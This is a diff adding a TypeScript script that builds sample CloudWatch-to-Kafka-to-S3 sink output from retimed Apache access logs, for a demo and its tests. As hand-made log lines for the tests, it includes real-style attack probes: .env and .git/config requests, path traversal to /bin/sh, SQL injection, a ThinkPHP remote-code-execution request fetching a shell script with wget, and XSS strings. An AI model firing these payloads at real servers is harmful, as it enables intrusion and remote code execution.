@@ -1,0 +1,260 @@
+// Builds sample/: the bundled S3 sink output that `npm run demo` and the tests load.
+//
+// Real lines from a public web server (../shared/data/real-logs, May 2015), moved to May 2023
+// (same weekdays) and rewritten in the servers' +0530 time zone, spread over three EC2 instances
+// the way a load balancer with sticky sessions would, then laid out exactly as CloudWatch Logs →
+// Kafka → Confluent's S3 sink writes them. A few hand-made lines add what the real log lacks:
+// scanners, probes, TLS sent to the HTTP port, and lines that do not parse.
+//
+// Deterministic: running it twice gives the same bytes. `npx tsx scripts/make-sample.ts`
+import {mkdirSync, readFileSync, rmSync, writeFileSync} from "node:fs";
+import {dirname, join, resolve} from "node:path";
+import {fileURLToPath} from "node:url";
+import {gzipSync} from "node:zlib";
+
+const projectDir = resolve(fileURLToPath(import.meta.url), "../..");
+const REAL_LOG = resolve(projectDir, "../shared/data/real-logs/elastic-examples-apache_logs");
+const SAMPLE_DIR = join(projectDir, "sample");
+
+const LOG_GROUP = "cloudwatchLogsEC2";
+const INSTANCES = ["i-02e3ca004943e0f26", "i-0b7d5c1e9a4f3e812", "i-05f1a9c3d7e2b6480"] as const;
+/** Records per object. The real connector uses 1000; smaller here so the sample has several objects per partition. */
+const FLUSH_SIZE = 500;
+/** 2919 days = 417 weeks: 17 May 2015 (a Sunday) becomes 14 May 2023 (a Sunday). */
+const SHIFT_MS = 2919 * 86_400_000;
+const SERVER_OFFSET_MINUTES = 5 * 60 + 30;
+
+/** How each instance's connector writes records, so the sample covers every shape of DESIGN §1. */
+const INSTANCE_SHAPES = [
+  {partitions: 2, value: "object", gzip: false, keys: true},
+  {partitions: 1, value: "envelope", gzip: false, keys: false},
+  {partitions: 1, value: "object", gzip: true, keys: false},
+] as const;
+
+interface LogLine {
+  utcMillis: number;
+  clientIp: string;
+  text: string;
+  /** False for the hand-made lines that must end up in the rejected table. */
+  parses: boolean;
+}
+
+function main(): void {
+  const real = readFileSync(REAL_LOG, "utf8").split("\n").filter((line) => line.length > 0);
+  // Three lines in five: about 6,000 lines over the log's four days.
+  const lines: LogLine[] = real.filter((_, i) => i % 5 < 3).map(retime);
+  lines.push(...handMadeLines());
+  lines.sort((a, b) => a.utcMillis - b.utcMillis);
+
+  rmSync(join(SAMPLE_DIR, "s3-sink"), {recursive: true, force: true});
+  rmSync(join(SAMPLE_DIR, "rewrites"), {recursive: true, force: true});
+
+  const written: SinkObject[] = [];
+  INSTANCES.forEach((instance, i) => {
+    const shape = INSTANCE_SHAPES[i];
+    const mine = lines.filter((line) => instanceOf(line) === i);
+    for (let partition = 0; partition < shape.partitions; partition++) {
+      const records = mine.filter((line) => hash(line.clientIp + "/partition") % shape.partitions === partition);
+      written.push(...writePartition(instance, partition, records, shape));
+    }
+  });
+  const rewrites = writeRewrites(written);
+
+  const expected = {
+    description: "What a correct sync of sample/s3-sink then sample/rewrites gives; computed by scripts/make-sample.ts",
+    records: written.reduce((n, o) => n + o.records.length, 0),
+    events: written.reduce((n, o) => n + o.records.filter((r) => r.line.parses && !r.malformed).length, 0),
+    rejected: written.reduce((n, o) => n + o.records.filter((r) => !r.line.parses || r.malformed).length, 0),
+    valueObjects: written.length,
+    keyFiles: written.filter((o) => o.keyFile).length,
+    rewrites,
+    instances: INSTANCES.map((instance, i) => ({
+      log_stream: instance,
+      events: written.filter((o) => o.instance === instance).reduce((n, o) => n + o.records.filter((r) => r.line.parses && !r.malformed).length, 0),
+      shape: INSTANCE_SHAPES[i],
+    })),
+  };
+  writeFileSync(join(SAMPLE_DIR, "expected.json"), JSON.stringify(expected, null, 2) + "\n");
+  console.log(`sample/: ${expected.records} records in ${expected.valueObjects} objects, ${expected.keyFiles} key files, ${expected.rejected} lines that must be rejected`);
+}
+
+function retime(text: string): LogLine {
+  const match = /^(\S+) \S+ \S+ \[(\d\d)\/(\w\w\w)\/(\d{4}):(\d\d):(\d\d):(\d\d) ([+-]\d{4})\]/.exec(text);
+  if (!match) throw new Error(`real log line without a timestamp: ${text}`);
+  const [, clientIp, day, month, year, hour, minute, second, offset] = match;
+  const offsetMinutes = (offset[0] === "-" ? -1 : 1) * (Number(offset.slice(1, 3)) * 60 + Number(offset.slice(3)));
+  const utcMillis = Date.UTC(Number(year), MONTHS.indexOf(month), Number(day), Number(hour), Number(minute), Number(second)) - offsetMinutes * 60_000 + SHIFT_MS;
+  const start = text.indexOf("[");
+  const end = text.indexOf("]", start);
+  // The real log has a line or two cut short; a correct pipeline rejects them, so say which.
+  return {utcMillis, clientIp, text: text.slice(0, start) + `[${apacheTime(utcMillis)}]` + text.slice(end + 1), parses: WELL_FORMED_COMBINED.test(text)};
+}
+
+/** Combined Log Format, strictly, as an independent check of which real lines are well formed. */
+const WELL_FORMED_COMBINED = /^\S+ \S+ \S+ \[[^\]]+\] "(?:[^"\\]|\\.)*" \d{3} (?:\d+|-) "(?:[^"\\]|\\.)*" "(?:[^"\\]|\\.)*"$/;
+
+const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
+
+/** Apache's %t in the servers' zone: 14/May/2023:15:35:03 +0530. */
+function apacheTime(utcMillis: number): string {
+  const local = new Date(utcMillis + SERVER_OFFSET_MINUTES * 60_000);
+  const two = (n: number) => String(n).padStart(2, "0");
+  return `${two(local.getUTCDate())}/${MONTHS[local.getUTCMonth()]}/${local.getUTCFullYear()}:${two(local.getUTCHours())}:${two(local.getUTCMinutes())}:${two(local.getUTCSeconds())} +0530`;
+}
+
+/**
+ * What the real log lacks. Each line is what such a client really sends; the user agent of the
+ * Expanse scanner is the one Palo Alto Networks publishes.
+ */
+function handMadeLines(): LogLine[] {
+  const at = (iso: string) => Date.parse(iso);
+  const line = (iso: string, clientIp: string, rest: string, parses = true): LogLine => ({
+    utcMillis: at(iso),
+    clientIp,
+    text: `${clientIp} - - [${apacheTime(at(iso))}] ${rest}`,
+    parses,
+  });
+  const expanse =
+    '"Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com"';
+  const curl = '"curl/7.88.1"';
+  const chrome = '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Safari/537.36"';
+  return [
+    line("2023-05-14T11:02:17Z", "205.210.31.24", `"GET / HTTP/1.1" 200 10586 "-" ${expanse}`),
+    line("2023-05-15T03:41:09Z", "205.210.31.24", `"GET / HTTP/1.1" 200 10586 "-" ${expanse}`),
+    line("2023-05-16T19:12:44Z", "198.235.24.131", `"GET /favicon.ico HTTP/1.1" 200 3638 "-" ${expanse}`),
+    line("2023-05-14T13:20:01Z", "45.148.10.81", '"\\x16\\x03\\x01\\x00\\xca\\x01\\x00\\x00\\xc6\\x03\\x03\\xa4\\x8f" 400 226 "-" "-"'),
+    line("2023-05-15T22:05:55Z", "45.148.10.81", '"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" 400 226 "-" "-"'),
+    line("2023-05-14T16:44:12Z", "185.254.196.173", `"GET /.env HTTP/1.1" 404 196 "-" ${chrome}`),
+    line("2023-05-14T16:44:13Z", "185.254.196.173", `"GET /.git/config HTTP/1.1" 404 196 "-" ${chrome}`),
+    line("2023-05-14T16:44:13Z", "185.254.196.173", `"POST /wp-login.php HTTP/1.1" 404 196 "-" ${chrome}`),
+    line("2023-05-16T02:17:30Z", "193.35.18.61", `"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 226 "-" ${curl}`),
+    line("2023-05-16T02:17:31Z", "193.35.18.61", `"GET /blog/tags/puppet?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1" 200 14872 "-" ${curl}`),
+    line("2023-05-17T08:30:00Z", "193.35.18.61", `"GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://193.35.18.61/x.sh HTTP/1.1" 404 196 "-" "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36"`),
+    // Log content is attacker-controlled: the site must show this as text, never run it.
+    line("2023-05-17T12:00:00Z", "203.0.113.7", `"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 5120 "<img src=x onerror=alert(2)>" "<script>alert(3)</script>"`),
+    line("2023-05-17T12:00:01Z", "2001:db8:85a3::8a2e:370:7334", `"GET /favicon.ico HTTP/2.0" 200 3638 "-" ${chrome}`),
+    // Lines that do not parse: they must be kept in the rejected table with their reason.
+    line("2023-05-15T06:00:00Z", "10.0.4.17", '"GET /presentations/logstash-monitorama-2013/images/kib', false),
+    {utcMillis: at("2023-05-16T06:00:00Z"), clientIp: "10.0.4.18", text: "[Tue May 16 11:30:00.123456 2023] [mpm_event:notice] [pid 1234:tid 140] AH00489: Apache/2.4.57 (Unix) configured -- resuming normal operations", parses: false},
+    {utcMillis: at("2023-05-17T06:00:00Z"), clientIp: "10.0.4.19", text: "", parses: false},
+  ];
+}
+
+interface SinkRecord {
+  line: LogLine;
+  instance: string;
+  /** True for the one record whose JSON the "connector" truncated: rejected as a record. */
+  malformed: boolean;
+}
+
+interface SinkObject {
+  key: string;
+  instance: string;
+  topic: string;
+  partition: number;
+  startOffset: number;
+  records: SinkRecord[];
+  keyFile: boolean;
+  body: Buffer;
+}
+
+function writePartition(instance: string, partition: number, lines: LogLine[], shape: (typeof INSTANCE_SHAPES)[number]): SinkObject[] {
+  const topic = `${LOG_GROUP}.${instance}`;
+  const objects: SinkObject[] = [];
+  for (let start = 0; start < lines.length; start += FLUSH_SIZE) {
+    const records: SinkRecord[] = lines.slice(start, start + FLUSH_SIZE).map((line) => ({line, instance, malformed: false}));
+    // One record in the envelope-shaped stream arrives cut short.
+    if (shape.value === "envelope" && start === FLUSH_SIZE) records[7].malformed = true;
+    // Partition 1 of the first instance went through a string converter: bare JSON strings.
+    const value = shape.value === "object" && partition === 1 ? "string" : shape.value;
+    const text = records.map((record) => encodeRecord(record, value)).join("\n") + "\n";
+    const object: SinkObject = {
+      key: objectKey(topic, partition, start, shape.gzip ? ".json.gz" : ".json"),
+      instance,
+      topic,
+      partition,
+      startOffset: start,
+      records,
+      keyFile: shape.keys,
+      body: shape.gzip ? gzipSync(text, {level: 9}) : Buffer.from(text),
+    };
+    writeObject("s3-sink", object.key, object.body);
+    // Keys stored beside the values (store.kafka.keys, BYTES): one key per record, never events.
+    if (shape.keys) writeObject("s3-sink", objectKey(topic, partition, start, ".keys.bin"), Buffer.from(records.map(() => instance).join("\n") + "\n"));
+    objects.push(object);
+  }
+  return objects;
+}
+
+/** The record value as the CloudWatch Logs source connector's JSON converter writes it. */
+function encodeRecord(record: SinkRecord, shape: "object" | "envelope" | "string"): string {
+  if (shape === "string") return JSON.stringify(record.line.text);
+  const value = {
+    logGroupName: LOG_GROUP,
+    logStreamName: record.instance,
+    // CloudWatch's timestamp is ingestion, a moment after Apache wrote the line.
+    timestamp: record.line.utcMillis + 400 + (hash(record.line.text) % 1600),
+    message: record.line.text,
+  };
+  if (shape === "object") return JSON.stringify(value);
+  const schema = {
+    type: "struct",
+    optional: false,
+    fields: [
+      {field: "logGroupName", type: "string", optional: false},
+      {field: "logStreamName", type: "string", optional: false},
+      {field: "timestamp", type: "int64", optional: false},
+      {field: "message", type: "string", optional: false},
+    ],
+  };
+  const json = JSON.stringify({schema, payload: value});
+  return record.malformed ? json.slice(0, json.length - 40) : json;
+}
+
+/**
+ * A connector restart, twice over: the first object of the second instance written again under
+ * its own name (same records, new bytes), and the first instance's partition 0 re-delivered from
+ * offset 250 under a new name, overlapping two objects it already wrote.
+ */
+function writeRewrites(written: SinkObject[]) {
+  const sameName = written.find((o) => o.instance === INSTANCES[1] && o.startOffset === 0)!;
+  const text = sameName.records.map((record) => {
+    const value = {schema: null, payload: {message: record.line.text, timestamp: record.line.utcMillis + 900, logStreamName: record.instance, logGroupName: LOG_GROUP}};
+    return JSON.stringify(value);
+  });
+  writeObject("rewrites", sameName.key, Buffer.from(text.join("\n") + "\n"));
+
+  const partition0 = written.filter((o) => o.instance === INSTANCES[0] && o.partition === 0).flatMap((o) => o.records);
+  const redelivered = partition0.slice(250, 250 + FLUSH_SIZE);
+  const key = objectKey(sameName.topic.replace(INSTANCES[1], INSTANCES[0]), 0, 250, ".json");
+  writeObject("rewrites", key, Buffer.from(redelivered.map((record) => encodeRecord(record, "object")).join("\n") + "\n"));
+  return {
+    replacedKey: sameName.key,
+    replacedRecords: sameName.records.length,
+    overlappingKey: key,
+    overlappingRecords: redelivered.length,
+  };
+}
+
+function objectKey(topic: string, partition: number, startOffset: number, suffix: string): string {
+  return `topics/${topic}/year=2023/${topic}+${partition}+${String(startOffset).padStart(10, "0")}${suffix}`;
+}
+
+function writeObject(tree: "s3-sink" | "rewrites", key: string, body: Buffer): void {
+  const file = join(SAMPLE_DIR, tree, key);
+  mkdirSync(dirname(file), {recursive: true});
+  writeFileSync(file, body);
+}
+
+function instanceOf(line: LogLine): number {
+  return hash(line.clientIp) % INSTANCES.length;
+}
+
+/** FNV-1a: a stable, well-spread hash so the sample is the same on every run. */
+function hash(text: string): number {
+  let h = 0x811c9dc5;
+  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193);
+  return h >>> 0;
+}
+
+main();
